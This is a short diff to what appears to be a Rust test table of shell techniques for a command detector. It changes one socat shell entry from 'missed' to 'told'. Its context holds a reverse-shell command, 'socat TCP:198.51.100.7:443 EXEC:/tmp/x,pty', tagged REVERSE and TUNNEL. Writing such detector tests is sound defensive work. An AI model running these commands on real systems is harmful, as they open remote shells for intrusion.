@@ -154,13 +154,7 @@ pub(super) const TECHNIQUES: [Technique; 60] = [
         "socat TCP:198.51.100.7:443 EXEC:/tmp/x,pty",
         &[REVERSE, TUNNEL],
     ),
-    missed(
-        "a-shell-behind-a-socket",
-        Exec,
-        "socat --starts socket sh",
-        &[REVERSE],
-        "no field tells what the descriptors are",
-    ),
+    told("a-shell-behind-a-socket", Exec, "socat --starts socket sh", &[REVERSE]),
     told(
         "an-interactive-shell-behind-a-socket",
         Exec,
